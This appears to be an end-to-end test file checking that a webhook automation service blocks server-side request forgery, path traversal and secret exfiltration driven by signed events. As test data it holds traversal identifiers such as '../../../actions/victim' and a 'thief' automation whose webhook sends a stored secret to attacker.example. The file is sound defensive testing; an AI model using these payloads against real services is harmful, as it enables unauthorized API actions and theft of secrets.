import { createHmac } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { JsonObject } from '../../src/core/json.ts';
import { type Server, startServer } from './harness/server.ts';
import { automation, created, entityEvent, webhook } from './harness/shapes.ts';

const secret = 'the secret of the event sender';
const api = 'https://api.getport.io/v1';

/** What an automation that cleans up calls, with an identifier from its event. */
const cleanUp = webhook(
  `${api}/blueprints/env/entities/{{ .event.diff.before.properties.id }}`,
  {},
  {
    method: 'DELETE',
  },
);

describe('e2e/run-token', () => {
  let server: Server;
  beforeAll(async () => {
    server = await startServer({
      ALLOWED_HOSTS: 'localhost',
      EVENTS_SECRET: secret,
      SECRET_TOP: 'a secret that is worth a lot',
    });
  });
  afterAll(() => server[Symbol.asyncDispose]());

  /** Sends an event as a sender who knows only EVENTS_SECRET; returns the resulting run once it has ended. */
  async function signed(event: JsonObject) {
    const body = JSON.stringify(event);
    const timestamp = String(Math.floor(Date.now() / 1000));
    const signature = `v1,${createHmac('sha256', secret).update(`${timestamp}.${body}`).digest('base64')}`;
    const headers = { authorization: '', 'x-port-timestamp': timestamp, 'x-port-signature': signature };
    const answer = await server.send('POST', '/v1/events', body, headers);
    const { events } = answer.body as { events: { runs: { id: string }[] }[] };
    return server.runIn(events[0]?.runs[0]?.id ?? '');
  }

  const deleted = (id: string) =>
    entityEvent('env', 'one', { before: { identifier: 'one', blueprint: 'env', properties: { id } } });

  test('an identifier in an event cannot lead a call of our own API to another route', async () => {
    const victim = automation('victim', { type: 'ENTITY_CREATED', blueprintIdentifier: 'other' }, webhook(`${api}/x`));
    await server.automate(
      victim,
      automation('clean_up', { type: 'ENTITY_DELETED', blueprintIdentifier: 'env' }, cleanUp),
    );
    for (const identifier of [
      '../../../actions/victim',
      '%2e%2e/%2E./../actions/victim',
      '..%2f..%2f..%2factions%2fvictim',
    ]) {
      const run = await signed(deleted(identifier));
      expect(run.summary).toContain("Nothing was called: the path into the catalog's own API contains");
    }
    expect((await server.send('GET', '/v1/actions/victim')).status).toBe(200);
  });

  test('a call whose URL and body come from an event creates no automation', async () => {
    const method = webhook('{{ .event.diff.after.properties.url }}', '{{ .event.diff.after.properties.body }}');
    await server.automate(automation('relay', { type: 'ENTITY_CREATED', blueprintIdentifier: 'relayed' }, method));
    const thief = automation(
      'thief',
      { type: 'ENTITY_CREATED', blueprintIdentifier: 'relayed' },
      webhook('https://attacker.example/{{ .secrets.TOP }}'),
    );
    const calls: [string, JsonObject][] = [
      ['/actions', thief],
      ['/automations/sync', { path: 'automations', source: 'acme/repo', definitions: [] }],
      ['/events', created('relayed', 'again')],
      ['/actions/runs/r_0000000000000000/logs', { message: 'not mine' }],
    ];
    for (const [path, body] of calls) {
      const run = await signed(created('relayed', 'one', { url: `${api}${path}`, body }));
      expect(run).toMatchObject({ status: 'FAILURE', response: { error: 'forbidden' } });
    }
    expect((await server.send('GET', '/v1/actions/thief')).status).toBe(404);
  });

  test('a signed call that a run sends to this service under another name brings no event', async () => {
    const body = created('relayed', 'reflected');
    const other = `${server.url.replace('127.0.0.1', 'localhost')}/v1/events`;
    const run = await signed(created('relayed', 'one', { url: other, body }));
    expect(run).toMatchObject({ status: 'FAILURE', response: { error: 'forbidden' } });
  });

  test("a run's changes are linked to that run, whichever run its call names", async () => {
    const method = webhook(`${api}/blueprints/tied/entities?run_id=r_0000000000000000`, { identifier: 'one' });
    await server.automate(automation('tie', { type: 'ENTITY_CREATED', blueprintIdentifier: 'tying' }, method));
    const run = await signed(created('tying', 'one'));
    expect(run.status).toBe('SUCCESS');
    const event = (await server.events()).find(({ context }) => context.blueprintIdentifier === 'tied');
    expect(event?.execution).toMatchObject({ depth: 1, chain: [run.id] });
  });
});
